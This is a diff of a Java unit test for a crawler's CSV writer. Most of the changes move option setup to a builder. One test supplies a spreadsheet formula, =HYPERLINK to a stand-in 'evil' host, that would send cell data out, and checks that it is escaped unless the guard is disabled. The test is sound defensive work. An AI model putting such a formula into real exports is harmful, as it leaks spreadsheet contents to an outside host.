@@ -14,8 +14,9 @@ import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
 class CsvSinkTest {
-    private static final SinkOptions ROW_AND_TITLE =
-            DEFAULT.withColumns(Columns.ALL.select(List.of("row", "title", "word_count")));
+    private static final SinkOptions ROW_AND_TITLE = SinkOptions.builder()
+            .columns(Columns.ALL.select(List.of("row", "title", "word_count")))
+            .build();
 
     @Test
     void theFirstRowHoldsTheNamesAndEveryRowAsManyFields() {
@@ -46,7 +47,7 @@ class CsvSinkTest {
     }
 
     @Test
-    void quotesCommasAndLineBreaksInsideAFieldAreQuotedAsTheRfcSays() {
+    void quotesFieldsAsTheRfcSays() {
         assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a \"b\", c\r\nd", Map.of())))
                 .isEqualTo("row,title,word_count\r\n1,\"a \"\"b\"\", c\r\nd\",\r\n");
     }
@@ -60,19 +61,23 @@ class CsvSinkTest {
     }
 
     @Test
-    void aHostilePageCannotRunInASpreadsheetUnlessTheUserTurnsTheGuardOff() {
+    void guardsFormulasUnlessTurnedOff() {
         CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
-        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("title", "input")));
+        SinkOptions options = SinkOptions.builder()
+                .columns(Columns.ALL.select(List.of("title", "input")))
+                .build();
         assertThat(Written.by(CSV, options, hostile))
                 .isEqualTo(
                         "title,input\r\n\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";\\u003d1\"\"}\"\r\n");
-        assertThat(Written.by(CSV, options.withFormulaSafe(false), hostile))
+        assertThat(Written.by(CSV, options.toBuilder().formulaSafe(false).build(), hostile))
                 .isEqualTo("title,input\r\n\"=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";=1\"\"}\"\r\n");
     }
 
     @Test
     void theUrlOfARowIsGuardedAsAllTextIs() {
-        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("url")));
+        SinkOptions options = SinkOptions.builder()
+                .columns(Columns.ALL.select(List.of("url")))
+                .build();
         assertThat(Written.by(CSV, options, SampleRecords.invalid(1, "-1+1"))).isEqualTo("url\r\n'-1+1\r\n");
     }
 
@@ -84,7 +89,8 @@ class CsvSinkTest {
 
     @Test
     void aByteOrderMarkComesFirstWhereAskedFor() {
-        assertThat(Written.by(CSV, ROW_AND_TITLE.withByteOrderMark(true))).isEqualTo("\uFEFFrow,title,word_count\r\n");
+        assertThat(Written.by(CSV, ROW_AND_TITLE.toBuilder().byteOrderMark(true).build()))
+                .isEqualTo("\uFEFFrow,title,word_count\r\n");
     }
 
     @Test
